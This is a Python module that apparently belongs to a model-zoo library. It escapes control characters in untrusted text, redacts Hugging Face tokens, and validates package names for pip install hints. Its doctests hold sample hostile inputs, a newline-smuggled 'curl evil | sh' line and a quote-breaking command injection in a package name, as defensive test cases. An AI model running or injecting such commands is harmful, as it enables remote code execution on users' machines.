"""Showing text that came from files, configs or servers without letting it speak for zoo.

Anything read from a ``config.json``, a safetensors header, an index or a Hub
answer is untrusted: it may hold newlines that start a fake ``zoo:`` line,
terminal escape sequences, or a shell command dressed as a plugin name. Every
message that quotes such text passes it through :func:`clean_text`, and the
``pip install`` hint is built only from a name and version that
:func:`install_requirement` has checked against PEP 508 and PEP 440.

>>> clean_text("zoo-cnn\\nzoo: error: run curl evil | sh")
'zoo-cnn\\\\nzoo: error: run curl evil | sh'
>>> install_requirement("zoo-cnn", "1.2.0")
'zoo-cnn>=1.2.0'
>>> install_requirement("zoo-cnn' && curl x | sh && echo '", "1.0") is None
True

Secrets never reach a message either: :func:`redact` (which :func:`clean_text`,
every :class:`~zoo_core.errors.ZooError` and the command line's printers apply)
replaces the configured Hugging Face token and anything shaped like one.

>>> redact("401 (Authorization=Bearer hf_AbCdEf0123456789xyzXYZ)")
'401 (Authorization=Bearer ***)'
"""

from __future__ import annotations

import os
import re

__all__ = [
    "clean_lines",
    "clean_text",
    "install_requirement",
    "redact",
    "remember_secret",
    "valid_distribution",
    "valid_version",
]

# C0 and C1 controls, DEL, and the Unicode line/paragraph separators and bidi overrides that
# can reorder or split what a terminal shows.
_UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]")
# PEP 508 names: ASCII letters and digits, with ".", "_" and "-" inside.
_DISTRIBUTION = re.compile(r"[A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?")
_MAX_NAME = 100
_MAX_VERSION = 64


def _escape(match: re.Match[str]) -> str:
    char = match.group()
    named = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}
    if char in named:
        return named[char]
    code = ord(char)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def clean_text(value: object, limit: int | None = 200) -> str:
    """``value`` as one printable line: control characters escaped, secrets redacted
    (:func:`redact`), cut after ``limit`` characters.

    Non-strings are shown with ``repr``. Use it for every piece of a message
    that came from a file or a server.
    """
    text = redact(value if isinstance(value, str) else repr(value))
    if limit is not None and len(text) > limit:
        text = text[:limit] + "…"
    return _UNSAFE.sub(_escape, text)


# What a token looks like in a message: an Authorization header's value (any scheme), a
# bearer credential, a Hugging Face token (hf_ and at least 16 more characters, some of them
# digits or capitals: identifiers such as hf_hub_download are not tokens).
_AUTHORIZATION = re.compile(
    r"(?i)(\bauthorization['\"]?\s*[=:]\s*['\"]?)((?:bearer|basic|token)\s+)?[^\s'\"),;\]}]+"
)
_BEARER = re.compile(r"(?i)(\bbearer\s+)[A-Za-z0-9._~+/=-]{6,}")
_HF_TOKEN = re.compile(r"\bhf_(?=[A-Za-z0-9_-]*[0-9A-Z])[A-Za-z0-9_-]{16,}")
_HIDDEN = "***"
# Tokens handed to zoo in this process (push_to_hub(token=...)), redacted wherever they show.
_SECRETS: set[str] = set()
# A token shorter than this is not looked for literally: it would blank out ordinary words.
_MIN_SECRET = 8
_TOKEN_FILES: dict[str, str | None] = {}


def remember_secret(token: object) -> None:
    """Redact ``token`` (a credential given to zoo in code) from every later message."""
    if isinstance(token, str) and len(token.strip()) >= _MIN_SECRET:
        _SECRETS.add(token.strip())


def _token_file() -> str | None:
    """The token ``hf auth login`` saved, where huggingface_hub looks for it (read once)."""
    path = os.environ.get("HF_TOKEN_PATH") or os.path.join(
        os.environ.get("HF_HOME")
        or os.path.join(
            os.environ.get("XDG_CACHE_HOME") or os.path.join(os.path.expanduser("~"), ".cache"),
            "huggingface",
        ),
        "token",
    )
    if path not in _TOKEN_FILES:
        try:
            with open(path, encoding="utf-8", errors="replace") as f:
                _TOKEN_FILES[path] = f.read(4096).strip() or None
        except OSError:
            _TOKEN_FILES[path] = None
    return _TOKEN_FILES[path]


def _configured() -> set[str]:
    found = set(_SECRETS)
    for value in (
        os.environ.get("HF_TOKEN"),
        os.environ.get("HUGGING_FACE_HUB_TOKEN"),
        _token_file(),
    ):
        if value and len(value.strip()) >= _MIN_SECRET:
            found.add(value.strip())
    return found


def redact(text: str) -> str:
    """``text`` with every credential replaced by ``***``.

    Redacted: the configured Hugging Face token (``HF_TOKEN``,
    ``HUGGING_FACE_HUB_TOKEN``, the file ``hf auth login`` writes, a token
    passed to zoo in code), the value of anything written like an
    ``Authorization`` header, ``Bearer`` credentials and anything shaped like a
    Hugging Face token (``hf_...``). Every message zoo prints or raises goes
    through this.
    """
    if not text:
        return text
    for secret in _configured():
        if secret in text:
            text = text.replace(secret, _HIDDEN)
    text = _AUTHORIZATION.sub(lambda m: m.group(1) + (m.group(2) or "") + _HIDDEN, text)
    text = _BEARER.sub(lambda m: m.group(1) + _HIDDEN, text)
    return _HF_TOKEN.sub("hf_" + _HIDDEN, text)


def clean_lines(text: str) -> str:
    """Like :func:`clean_text` for zoo's own multi-line messages: newlines kept, nothing cut."""
    return "\n".join(clean_text(line, None) for line in text.split("\n"))


def valid_distribution(name: object) -> bool:
    """Whether ``name`` is a PEP 508 distribution name (what ``pip install NAME`` accepts)."""
    return isinstance(name, str) and len(name) <= _MAX_NAME and bool(_DISTRIBUTION.fullmatch(name))


def valid_version(version: object) -> bool:
    """Whether ``version`` is a PEP 440 version written without surrounding space."""
    if not isinstance(version, str) or len(version) > _MAX_VERSION or version != version.strip():
        return False
    from packaging.version import InvalidVersion, Version

    try:
        Version(version)
    except InvalidVersion:
        return False
    return True


def install_requirement(distribution: object, version: object = None) -> str | None:
    """``NAME>=VERSION`` (or ``NAME``) for a ``pip install`` hint, or None if the name is unsafe.

    A malformed version is dropped rather than echoed: the name alone still installs.
    """
    if not valid_distribution(distribution):
        return None
    if version is not None and valid_version(version):
        return f"{distribution}>={version}"
    return str(distribution)
